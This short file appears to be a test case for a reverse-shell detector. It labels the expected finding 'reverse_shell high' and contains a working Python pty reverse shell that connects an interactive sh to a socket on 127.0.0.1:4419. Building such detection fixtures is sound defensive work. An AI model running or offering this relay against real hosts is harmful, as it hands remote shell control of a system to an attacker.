# about: python copies between the socket and a terminal
# expect: reverse_shell high
# needs: python3
peer 4419
timeout 6 python3 -c 'import socket,os,pty,select
s=socket.create_connection(("127.0.0.1",4419))
pid,m=pty.fork()
if pid==0: os.execv("/bin/sh",["sh","-i"])
while True:
    r,_,_=select.select([s,m],[],[])
    try:
        if s in r:
            d=s.recv(1024)
            if not d: break
            os.write(m,d)
        if m in r: s.send(os.read(m,1024))
    except OSError: break' || true
done_typing
